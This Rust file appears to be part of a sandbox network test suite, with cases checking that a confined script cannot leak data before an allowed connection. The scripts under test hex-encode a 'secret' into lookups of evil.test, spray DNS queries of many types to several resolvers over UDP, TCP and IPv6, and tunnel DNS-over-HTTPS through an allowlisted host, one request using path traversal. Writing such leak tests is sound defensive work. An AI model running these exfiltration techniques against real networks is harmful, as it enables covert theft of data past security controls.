//! Section D, what names and datagrams can carry: nothing leaves before a connection is made that is allowed.

use super::super::case::{Action, Case, OWNER, Verdict};
use super::{NETWORK, nobody_else, nothing_left};

/// Questions of every kind, to servers near and far, many of them, with something in the name; then over TCP.
const QUESTIONS: &str = r#"S=$(echo secret | od -An -tx1 | tr -d ' \n')
getent hosts $S.evil.test; getent hosts $S.allowed.test; getent ahosts allowed.test
curl -sS -m 1 http://$S.evil.test/ & curl -sSk -m 1 https://$S.evil.test/ & wait
python3 - $S <<'E'
import socket, struct, sys, time
def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
servers = ["8.8.8.8", "11.95.0.53", "127.0.0.1", "11.93.7.2"]
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for server in servers:
    for kind in (1, 28, 2, 5, 6, 10, 12, 15, 16, 33, 64, 65, 99, 252, 255):
        udp.sendto(question(sys.argv[1] + ".evil.test", kind), (server, 53))
began = time.time()
for number in range(1000):
    udp.sendto(question("%d.%s.evil.test" % (number, sys.argv[1]), 16), (servers[number % 4], 53))
for server in servers:
    for port in (53, 853, 5353):
        try:
            tcp = socket.create_connection((server, port), 1)
            message = question(sys.argv[1] + ".evil.test", 1)
            tcp.sendall(struct.pack(">H", len(message)) + message)
        except OSError: pass
six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for to in ("2001:4860:4860::8888", "fd93:7::2", "ff02::fb"):
    try: six.sendto(question(sys.argv[1] + ".evil.test", 1), (to, 53))
    except OSError: pass
E
true"#;

pub const CASES: &[Case] = &[
    Case {
        id: "D16",
        tries: "questions for names, of every kind, to every server, without a connection",
        action: Action::Script(QUESTIONS, |scene| scene.did_run().and(|| nothing_left(scene.stage))),
        ..NETWORK
    },
    Case {
        id: "D16.connect",
        tries: "questions for names beside a connection that is allowed",
        action: Action::Script(
            "getent hosts secret.evil.test; getent hosts secret.allowed.test; curl -sS -m 3 http://allowed.test/
            curl -sS -m 3 http://secret.evil.test/; getent hosts x.wide.test; true",
            |scene| {
                let names = scene.stage.internet().names.take();
                let other = names.iter().find(|name| *name != "allowed.test");
                let said = format!("asked for {other:?}");
                nobody_else(scene)
                    .and(|| Verdict::open_if(other.is_some(), said))
                    .and(|| Verdict::open_if(names.is_empty(), "what is allowed was not looked up"))
            },
        ),
        ..NETWORK
    },
    Case {
        id: "D16.doh",
        tries: "questions for names by way of a host that is allowed, for other requests",
        config: "network allowlist { allow allowed.test methods=GET paths=\"/files/*\"; }\n",
        action: Action::Script(
            "curl -sS -m 3 https://allowed.test/files/x
            curl -sS -m 3 'https://allowed.test/dns-query?dns=c2VjcmV0' -H 'Accept: application/dns-message'
            printf secret | curl -sS -m 3 https://allowed.test/dns-query --data-binary @- -H 'Content-Type: application/dns-message'
            curl -sS -m 3 --path-as-is https://allowed.test/files/../dns-query; curl -sS -m 3 http://allowed.test/dns-query; true",
            |scene| {
                let asked = scene.stage.internet().web.take();
                let other = asked.iter().find(|asked| !asked.line.starts_with("GET /files/x "));
                let said = format!("arrived: {:?}", other.map(|asked| &asked.line));
                nobody_else(scene)
                    .and(|| Verdict::open_if(other.is_some(), said))
                    .and(|| Verdict::open_if(asked.len() != 1, "what is allowed did not arrive"))
            },
        ),
        columns: OWNER,
        ..NETWORK
    },
    Case {
        id: "D17.sent",
        tries: "protocols beside TCP: datagrams, echoes, raw packets, streams of other kinds",
        action: Action::Script("$PROBE sends 11.95.0.2; true", |scene| {
            let slow = scene.ran.out.lines().find(|line| line.starts_with("slow"));
            let said = slow.unwrap_or_default().to_owned();
            nobody_else(scene)
                .and(|| Verdict::open_if(!scene.ran.out.contains("@tried"), scene.ran.short()))
                .and(|| Verdict::open_if(slow.is_some(), said))
        }),
        ..NETWORK
    },
];
